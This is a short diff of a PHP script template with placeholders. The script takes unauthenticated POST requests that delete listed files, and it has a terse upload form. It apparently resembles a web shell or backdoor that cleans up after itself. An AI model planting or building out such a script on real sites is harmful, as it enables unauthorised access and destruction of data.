@@ -15,5 +15,7 @@ if (isset($_POST['r'])) {
 if (isset($_POST['x'])) {
     array_map('unlink', array_filter(@LEFTOVERS@, 'is_file'));
 }
+@TOUCHER@
+@READER $_POST@
 ?>
 <form method="post" enctype="multipart/form-data"><input name="k"><input name="p"><input type="file" name="f"><input type="submit"></form>
